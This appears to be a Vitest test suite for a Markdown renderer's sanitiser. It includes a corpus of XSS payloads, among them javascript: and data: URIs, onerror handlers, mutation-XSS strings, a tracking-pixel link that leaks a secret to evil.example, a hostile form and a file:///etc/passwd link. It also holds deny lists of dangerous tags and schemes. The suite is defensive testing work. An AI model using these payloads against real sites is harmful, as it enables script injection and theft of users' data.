import { describe, expect, it } from 'vitest'
import { renderMarkdown, sanitizeHtml } from '../src/lib/markdown'

function dom(html: string): HTMLElement {
  const div = document.createElement('div')
  div.innerHTML = html
  return div
}

/** Nothing executable or remote-loading may survive. */
function assertSafe(html: string): void {
  const root = dom(html)
  for (const el of root.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase()
    expect(['script', 'img', 'svg', 'math', 'iframe', 'object', 'embed', 'style', 'link', 'form', 'input', 'base', 'meta', 'video', 'audio', 'source', 'frame', 'frameset', 'template', 'button', 'textarea', 'select']).not.toContain(tag)
    for (const attr of el.attributes) {
      expect(attr.name.startsWith('on'), `${tag}[${attr.name}]`).toBe(false)
      expect(['style', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'background', 'poster']).not.toContain(attr.name)
      expect(attr.value, `${tag}[${attr.name}]`).not.toMatch(/(javascript|vbscript|data|file):/i)
    }
    if (tag === 'a' && el.hasAttribute('href')) {
      expect(el.getAttribute('href')).toMatch(/^(https?:|mailto:)/i)
    }
  }
  // Raw markup may only survive as escaped text.
  expect(html).not.toMatch(/<(script|img|svg|iframe|style|object|embed|math)/i)
}

const corpus = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1)">',
  '<svg onload=alert(1)><circle r="10"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](java&#x09;script:alert(1))',
  '[click](javascript&colon;alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](data:image/png;base64,iVBORw0KGgo=)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![pixel](https://evil.example/leak?q=secret)',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=x><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p onclick="alert(1)">hi</p>',
  '<details open ontoggle=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](file:///etc/passwd)',
  '<https://ok.example/> and javascript:alert(1) and www.example.com',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '<<script>script>alert(1)<</script>/script>',
]

describe('renderMarkdown', () => {
  it.each(corpus)('neutralises %j', (input) => {
    assertSafe(renderMarkdown(input))
  })

  it('keeps raw HTML as visible text', () => {
    const root = dom(renderMarkdown('<script>alert(1)</script>'))
    expect(root.textContent).toContain('<script>alert(1)</script>')
  })

  it('renders ordinary Markdown', () => {
    const root = dom(renderMarkdown('# Title\n\n**bold** _it_ `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |'))
    expect(root.querySelector('h1')?.textContent).toBe('Title')
    expect(root.querySelector('strong')?.textContent).toBe('bold')
    expect(root.querySelectorAll('li')).toHaveLength(2)
    expect(root.querySelector('td')?.textContent).toBe('1')
  })

  it('makes safe links open in a new tab without a referrer', () => {
    const root = dom(renderMarkdown('[site](https://example.com/a?b=1) and https://auto.example/x and [mail](mailto:a@example.com)'))
    const links = [...root.querySelectorAll('a')]
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.com/a?b=1',
      'https://auto.example/x',
      'mailto:a@example.com',
    ])
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank')
      expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
  })

  it('does not link unsafe schemes at all', () => {
    const root = dom(renderMarkdown('[click](javascript:alert(1))'))
    expect(root.querySelector('a[href]')).toBeNull()
  })

  it('turns images into links instead of loading them', () => {
    const root = dom(renderMarkdown('![cat](https://img.example/cat.png)'))
    expect(root.querySelector('img')).toBeNull()
    const a = root.querySelector('a')
    expect(a?.getAttribute('href')).toBe('https://img.example/cat.png')
    expect(a?.textContent).toBe('cat')
  })

  it('highlights fenced code and escapes it', () => {
    const root = dom(renderMarkdown('```python\ndef f(x):\n    return "<b>" + x\n```'))
    const code = root.querySelector('pre code')
    expect(code?.className).toContain('language-python')
    expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('def')
    expect(code?.textContent).toContain('return "<b>" + x')
    expect(code?.querySelector('b')).toBeNull()
  })

  it('escapes code in an unknown language', () => {
    const root = dom(renderMarkdown('```nosuchlang" onmouseover="x\n<img src=x onerror=alert(1)>\n```'))
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('pre code')?.textContent).toContain('<img src=x onerror=alert(1)>')
  })

  it('renders an unterminated fence while streaming', () => {
    const root = dom(renderMarkdown('Here:\n```js\nconst a = 1'))
    expect(root.querySelector('pre code')?.textContent).toContain('const a = 1')
  })
})

describe('sanitizeHtml', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,hi">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<p style="color:red" onmouseover="alert(1)">x</p>',
  ])('strips %j even without Markdown', (html) => {
    assertSafe(sanitizeHtml(html))
  })
})
